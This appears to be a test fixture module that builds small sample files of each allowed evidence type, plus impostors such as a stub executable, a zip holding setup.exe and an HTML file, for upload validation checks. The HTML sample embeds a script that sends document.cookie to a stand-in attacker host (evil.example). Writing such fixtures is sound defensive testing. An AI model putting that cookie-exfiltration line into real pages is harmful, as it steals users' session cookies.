/** Small real files of each evidence type, and impostors, for the upload checks. */
import ExcelJS from 'exceljs';
import { Document, Packer, Paragraph } from 'docx';
import JSZip from 'jszip';

export const samples = {
  pdf: Buffer.from('%PDF-1.7\n1 0 obj\n<<>>\nendobj\n%%EOF\n'),
  png: Buffer.from('89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d4944415478da63f8ffff3f0005fe02fea7d6a4e80000000049454e44ae426082', 'hex'),
  jpeg: Buffer.from('ffd8ffe000104a46494600010100000100010000ffd9', 'hex'),
  text: Buffer.from('Deltagerliste\r\nÆble Ørsted Åse\t3 deltagere\n', 'utf8'),
  latin1Text: Buffer.from('Deltagerliste: Ærø\n', 'latin1'),
  exe: Buffer.concat([Buffer.from('MZ'), Buffer.alloc(64), Buffer.from('This program cannot be run in DOS mode')]),
  html: Buffer.from('<html><script>fetch("https://evil.example/?c="+document.cookie)</script></html>'),
  docx: async () => Buffer.from(await Packer.toBuffer(new Document({ sections: [{ children: [new Paragraph('Bevis')] }] }))),
  xlsx: async () => {
    const book = new ExcelJS.Workbook();
    book.addWorksheet('Ark').addRow(['Bevis']);
    return Buffer.from(await book.xlsx.writeBuffer());
  },
  pptx: async () => {
    const zip = new JSZip();
    zip.file('[Content_Types].xml', '<Types/>');
    zip.file('ppt/presentation.xml', '<p:presentation/>');
    return zip.generateAsync({ type: 'nodebuffer' });
  },
  zip: async () => {
    const zip = new JSZip();
    zip.file('setup.exe', 'MZ');
    return zip.generateAsync({ type: 'nodebuffer' });
  },
};
